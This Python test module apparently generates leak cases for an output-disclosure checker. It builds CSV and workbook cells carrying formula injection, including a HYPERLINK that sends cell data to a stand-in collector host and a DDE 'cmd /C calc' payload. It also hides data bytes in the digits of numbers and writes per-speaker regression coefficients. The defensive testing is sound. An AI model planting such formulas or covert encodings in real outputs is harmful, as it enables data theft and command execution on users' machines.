"""Cases 19 to 21: numbers and formulas that run, carry or name."""

from __future__ import annotations

import csv
import io
import json
import re
import struct

import openpyxl

from tests.leaks import carry
from tests.leaks.registry import Acro, Make, Submission, leak

FORMATS = ("csv", "markdown", "records", "notebook", "latex", "workbook")


@leak(
    19, "N", "formula in a cell",
    tuning=("=",),
    testing=("+", "-", "@", "blank", "tab", "pipe", "workbook", "tsv", "full-width", "quoted"),
)  # fmt: skip
def formula(make: Make, how: str) -> Submission:
    """Return a table in which a cell runs when a spreadsheet opens it."""
    begin = {
        "-": "-1+",
        "+": "+",
        "@": "@",
        "blank": " =",
        "tab": "\t=",
        "pipe": "=cmd|' /C calc'!A0+",
        "full-width": "\uff1d",
    }.get(how, "=")
    cell = f'{begin}HYPERLINK("https://collector.invalid/?q="&A{make.pick.randrange(2, 9)},"open")'
    rows = [
        {"system": "baseline", "n_speakers": 40, "wer": 0.21, "note": "first"},
        {"system": "adapted", "n_speakers": 40, "wer": 0.17, "note": cell},
    ]
    if how == "workbook":
        return Submission(
            {"table.xlsx": carry.workbook({"results": rows})}, b"HYPERLINK(", runs, harmless_as_text=True
        )
    return Submission(
        {"table.tsv": carry.delimited(rows, "\t")} if how == "tsv" else {"table.csv": carry.delimited(rows)},
        b"HYPERLINK(",
        runs,
        harmless_as_text=True,
    )


def runs(data: bytes) -> bytes:
    """Return the cells of a table that a spreadsheet would run."""
    if data[:2] == b"PK":
        book = openpyxl.load_workbook(io.BytesIO(data))
        return " ".join(str(c.value) for s in book for line in s for c in line if c.data_type == "f").encode()
    delimiter = "\t" if b"\t" in data.split(b"\n")[0] else ","
    cells = [cell for line in csv.reader(io.StringIO(data.decode()), delimiter=delimiter) for cell in line]
    return " ".join(
        c for c in cells if c.strip()[:1] in ("=", "+", "-", "@", "\uff1d") or "|" in c[:5]
    ).encode()


@leak(
    20,
    "N",
    "payload in the digits of numbers",
    tuning=("csv",),
    testing=("json", "mantissa", "trailing-zeros", "notebook", "exponent", "text"),
)
def digits(make: Make, how: str) -> Submission:
    """Return innocent numbers whose needless digits spell rows."""
    payload = carry.delimited([make.corpus.record(make.corpus.some(make.pick, 1)[0])])[-60:]
    numbers = [
        f"0.{make.pick.randrange(10**5, 10**6)}{int.from_bytes(payload[n : n + 3], 'big'):08d}1"
        for n in range(0, len(payload), 3)
    ]
    if how == "mantissa":
        numbers = [
            repr(_hidden(make.pick.uniform(0.1, 1), payload[n : n + 3])) for n in range(0, len(payload), 3)
        ]
    if how == "trailing-zeros":
        digits_ = [byte >> shift & 3 for byte in payload for shift in (6, 4, 2, 0)]
        numbers = [f"0.{make.pick.randrange(11, 99)}1{'0' * zeros}" for zeros in digits_][:400]
    if how == "exponent":
        numbers = [f"{n[2]}.{n[3:]}e-01" for n in numbers]
    extract = {"mantissa": _mantissas, "trailing-zeros": _zeros, "exponent": _exponents}.get(how, _low)
    files = {
        "json": lambda: {
            "scores.json": (
                json.dumps({"scores": ["N"] * len(numbers)}).replace('"N"', "%s").encode()
                % tuple(n.encode() for n in numbers)
            )
        },
        "notebook": lambda: {"scores.ipynb": carry.notebook(carry.printed("\n".join(numbers)))},
        "text": lambda: {"scores.txt": (" ".join(numbers) + "\n").encode()},
    }.get(
        how,
        lambda: {
            "scores.csv": b"step,loss\n" + "".join(f"{n},{x}\n" for n, x in enumerate(numbers)).encode()
        },
    )()
    return Submission(files, payload[:40] if how != "trailing-zeros" else payload[:30], extract)


def _hidden(number: float, data: bytes) -> float:
    raw = bytearray(struct.pack("<d", number))
    raw[: len(data)] = data
    return float(struct.unpack("<d", raw)[0])


def _low(data: bytes) -> bytes:
    return b"".join(int(d).to_bytes(4, "big")[1:] for d in re.findall(rb"0\.\d{6}(\d{8})1", data))


def _exponents(data: bytes) -> bytes:
    return b"".join(int(d).to_bytes(4, "big")[1:] for d in re.findall(rb"\d\.\d{5}(\d{8})1e-01", data))


def _mantissas(data: bytes) -> bytes:
    return b"".join(struct.pack("<d", float(d))[:3] for d in re.findall(rb"0\.\d{8,}", data))


def _zeros(data: bytes) -> bytes:
    values = [len(zeros) for zeros in re.findall(rb"0\.\d\d1(0*)", data)]
    return bytes(
        sum(v << s for v, s in zip(values[n : n + 4], (6, 4, 2, 0), strict=True)) & 255
        for n in range(0, len(values) - 3, 4)
    )


@leak(
    21,
    "B",
    "regression with a term a person",
    tuning=("patsy",),
    testing=("table", "factor", "one-hot", "json", "random-effects", "numbered", "latex"),
)
def regression(make: Make, how: str) -> Submission:
    """Return coefficients with one for each speaker."""
    ids = list(make.corpus.speakers)
    ids = ids if len(ids) > 2 else [row.recording for row in make.corpus.some(make.pick, 20)]
    ids = sorted(make.pick.sample(ids, min(len(ids), 60)))
    effect = {i: round(make.pick.gauss(0, 0.2), 4) for i in ids}
    rows = [{"term": f"speaker[{i}]", "estimate": effect[i], "std_error": 0.021} for i in ids]
    name, data = {
        "patsy": lambda: (
            "ols.txt",
            (
                "OLS Regression Results\n"
                + "".join(
                    f"C(speaker)[T.{i}]   {v:>8}   0.021   {v / 0.021:8.3f}\n" for i, v in effect.items()
                )
            ).encode(),
        ),
        "table": lambda: ("model.csv", carry.delimited(rows)),
        "factor": lambda: (
            "summary.txt",
            "".join(f"factor(speaker){i}  {v:>8} 0.021 *\n" for i, v in effect.items()).encode(),
        ),
        "one-hot": lambda: (
            "model.csv",
            carry.delimited([{"feature": f"speaker_{i}", "coef": v} for i, v in effect.items()]),
        ),
        "json": lambda: ("model.json", json.dumps({"coef": {"(Intercept)": 0.2, **effect}}).encode()),
        "random-effects": lambda: (
            "ranef.txt",
            (
                "$speaker\n            (Intercept)\n"
                + "".join(f"{i:12}  {v:>8}\n" for i, v in effect.items())
            ).encode(),
        ),
        "numbered": lambda: (
            "model.csv",
            carry.delimited(
                [{"term": f"speaker{n:02d}", "estimate": v} for n, v in enumerate(effect.values())]
            ),
        ),
        "latex": lambda: ("model.tex", carry.latex(rows).encode()),
    }[how]()
    data_rows = [{"y": 0.1 * n, "x": n} for n in range(len(ids))]
    return Submission({name: data}, acro=Acro("ols", data_rows, {}))
